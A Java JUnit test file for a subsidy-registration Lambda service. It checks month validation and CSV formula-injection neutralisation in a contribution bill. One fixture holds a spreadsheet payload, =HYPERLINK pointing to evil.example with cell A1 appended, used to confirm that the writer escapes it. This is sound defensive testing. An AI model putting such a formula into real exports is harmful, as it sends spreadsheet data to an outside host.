package id.dinsos.rentan.subsidy;

import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPEvent;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import id.dinsos.rentan.devkit.DynamoDbLocal;
import id.dinsos.rentan.devkit.LambdaResponse;
import id.dinsos.rentan.devkit.ProjectFiles;
import id.dinsos.rentan.devkit.SamTemplate;
import id.dinsos.rentan.devkit.SampleEvents;
import id.dinsos.rentan.devkit.TableFromTemplate;
import id.dinsos.rentan.registration.RegistrationHandler;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Path;
import java.time.Clock;
import java.time.LocalDateTime;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 8 for the run routes: months a caller sends are plain {@code YYYY-MM} in the years 2000 to
 * 2100, or a 400 with the field error (never a 500); and the bill neutralises cells a spreadsheet
 * would run as a formula.
 */
class HostileRunRequestsTest {
    private static final Path EVENTS = ProjectFiles.root().resolve("events/monthly-subsidy");
    private static final Path REGISTRATION_EVENTS = ProjectFiles.root().resolve("events/registration");
    private static final String PLACEHOLDER = "00000000-0000-4000-8000-000000000001";
    private static final ZoneId JAKARTA = ZoneId.of("Asia/Jakarta");
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Clock MARCH_10 = jakarta("2025-03-10T09:00");
    private static final Clock APRIL_5 = jakarta("2025-04-05T09:00");

    private static DynamoDbClient client;
    private static SamTemplate template;
    private String table;

    @BeforeAll
    static void startDynamo() {
        client = DynamoDbLocal.embedded();
        template = ProjectFiles.readTemplate();
    }

    @AfterAll
    static void stopDynamo() {
        client.close();
    }

    @BeforeEach
    void freshTableWithProgramme() {
        table = "hostile-runs-" + UUID.randomUUID();
        TableFromTemplate.create(client, template, table);
        assertThat(LambdaResponse.of(registrations().handleRequest(registrationEvent("put-programme.json"), null)).status()).isEqualTo(200);
    }

    private static Clock jakarta(String localDateTime) {
        return Clock.fixed(LocalDateTime.parse(localDateTime).atZone(JAKARTA).toInstant(), JAKARTA);
    }

    private RegistrationHandler registrations() {
        return new RegistrationHandler(client, table, "kota-tangerang", MARCH_10);
    }

    private LambdaResponse send(Clock clock, JsonNode event) {
        return LambdaResponse.ofJson(LambdaResponse.invoke(new MonthlySubsidyHandler(client, table, "kota-tangerang", clock), event, null));
    }

    private static ObjectNode event(String file) {
        ObjectNode e = (ObjectNode) SampleEvents.readTree(EVENTS.resolve(file));
        ((ObjectNode) e.path("headers")).remove("idempotency-key");
        return e;
    }

    private static ObjectNode forMonth(ObjectNode event, String month) {
        ((ObjectNode) event.get("pathParameters")).put("month", month);
        event.put("rawPath", event.get("rawPath").asText().replace("2025-04", month));
        return event;
    }

    private static APIGatewayV2HTTPEvent registrationEvent(String file) {
        APIGatewayV2HTTPEvent e = SampleEvents.httpEvent(REGISTRATION_EVENTS.resolve(file));
        Map<String, String> headers = new HashMap<>(e.getHeaders());
        headers.remove("idempotency-key");
        e.setHeaders(headers);
        return e;
    }

    /** Registers and approves, on 10 March, an applicant with this name: covered from 1 April. */
    private void participant(int seq, String fullName) {
        ObjectNode body;
        try {
            body = (ObjectNode) JSON.readTree(registrationEvent("post-registration-staff.json").getBody());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        body.put("nik", String.format("367102120379%04d", seq)).put("fullName", fullName);
        APIGatewayV2HTTPEvent submit = registrationEvent("post-registration-staff.json");
        submit.setBody(body.toString());
        LambdaResponse submitted = LambdaResponse.of(registrations().handleRequest(submit, null));
        assertThat(submitted.status()).as(submitted.raw()).isEqualTo(201);
        String id = submitted.body().path("id").asText();
        APIGatewayV2HTTPEvent approve = registrationEvent("approve-registration.json");
        approve.getPathParameters().put("id", id);
        approve.setRawPath(approve.getRawPath().replace(PLACEHOLDER, id));
        LambdaResponse approved = LambdaResponse.of(registrations().handleRequest(approve, null));
        assertThat(approved.status()).as(approved.raw()).isEqualTo(200);
    }

    private static List<String> fieldCodes(LambdaResponse r) {
        List<String> codes = new ArrayList<>();
        r.body().path("errors").forEach(e -> codes.add(e.path("field").asText() + " " + e.path("code").asText()));
        return codes;
    }

    private static void assertProblem(LambdaResponse r, int status, String code) {
        assertThat(r.status()).as(r.raw()).isEqualTo(status);
        assertThat(r.header("Content-Type")).isEqualTo("application/problem+json");
        assertThat(r.code()).isEqualTo(code);
    }

    // ------------------------------------------------------------------ 2. months

    @Test
    void aDryRunOfMonthPlus999999999_is400_notA500() {
        LambdaResponse r = send(APRIL_5, event("post-run.json").put("body", "{\"month\":\"+999999999-12\",\"dryRun\":true}"));
        assertProblem(r, 400, "VALIDATION_FAILED");
        assertThat(fieldCodes(r)).containsExactly("month INVALID_FORMAT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"1999-12", "2101-01"})
    void aRunOfAMonthOutsideTheYears2000To2100_is400OutOfRange(String month) {
        LambdaResponse r = send(APRIL_5, event("post-run.json").put("body", "{\"month\":\"" + month + "\",\"dryRun\":true}"));
        assertProblem(r, 400, "VALIDATION_FAILED");
        assertThat(fieldCodes(r)).containsExactly("month OUT_OF_RANGE");
    }

    @ParameterizedTest
    @ValueSource(strings = {"+999999999-12", "-999999999-01", "+2025-04", "2025-4", "20250-04"})
    void aMonthInThePathThatIsNotPlainYyyyMm_is400InvalidFormat_onEveryRunRoute(String month) {
        for (String file : List.of("get-run.json", "get-bill.json", "post-payment.json")) {
            LambdaResponse r = send(APRIL_5, forMonth(event(file), month));
            assertProblem(r, 400, "VALIDATION_FAILED");
            assertThat(fieldCodes(r)).as(file).containsExactly("month INVALID_FORMAT");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"1999-12", "2101-01", "0000-01"})
    void aMonthInThePathOutsideTheYears2000To2100_is400OutOfRange(String month) {
        for (String file : List.of("get-run.json", "get-bill.json", "post-payment.json")) {
            LambdaResponse r = send(APRIL_5, forMonth(event(file), month));
            assertProblem(r, 400, "VALIDATION_FAILED");
            assertThat(fieldCodes(r)).as(file).containsExactly("month OUT_OF_RANGE");
        }
    }

    // ------------------------------------------------------------------ 6. the bill as a spreadsheet reads it

    @Test
    void theBill_neutralisesANameAFormulaWouldRun_andKeepsTheAmountsAsNumbers() {
        participant(1, "-Budi Santoso");
        participant(2, "Agus Pratama");
        assertThat(send(APRIL_5, event("post-run.json")).status()).isEqualTo(200);
        LambdaResponse bill = send(APRIL_5, event("get-bill.json"));
        assertThat(bill.status()).as(bill.raw()).isEqualTo(200);
        assertThat(bill.raw().lines().toList()).containsExactly(
                "wadah,part,nik,fullName,kpj,jkk,jkm,total,note",
                "SG,1,3671021203790001,'-Budi Santoso,,10000,6800,16800,KPJ_MISSING",
                "SG,1,3671021203790002,Agus Pratama,,10000,6800,16800,KPJ_MISSING");
    }

    @Test
    void theBillWriter_neutralisesEveryTextCell_startingWithAFormulaCharacter_andNoNumber() {
        java.time.YearMonth april = java.time.YearMonth.of(2025, 4);
        List<id.dinsos.rentan.domain.ContributionLine> lines = List.of(
                new id.dinsos.rentan.domain.ContributionLine("r1", april, 1, id.dinsos.rentan.domain.Nik.of("3671021203790001"),
                        "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klik\")", "@1", 10_000, 6_800),
                new id.dinsos.rentan.domain.ContributionLine("r2", april, 2, id.dinsos.rentan.domain.Nik.of("3671021203790002"),
                        "-2+3", "+62", 10_000, 6_800),
                new id.dinsos.rentan.domain.ContributionLine("r3", april, 2, id.dinsos.rentan.domain.Nik.of("3671021203790003"),
                        "\tSiti", null, 10_000, 6_800));
        String csv = RunEndpoints.billCsv(new id.dinsos.rentan.application.MonthlyBill.Bill(april, "SG", lines));
        assertThat(csv.lines().toList()).containsExactly(
                "wadah,part,nik,fullName,kpj,jkk,jkm,total,note",
                "SG,1,3671021203790001,\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"klik\"\")\",'@1,10000,6800,16800,",
                "SG,2,3671021203790002,'-2+3,'+62,10000,6800,16800,",
                "SG,2,3671021203790003,'\tSiti,,10000,6800,16800,KPJ_MISSING");
    }
}
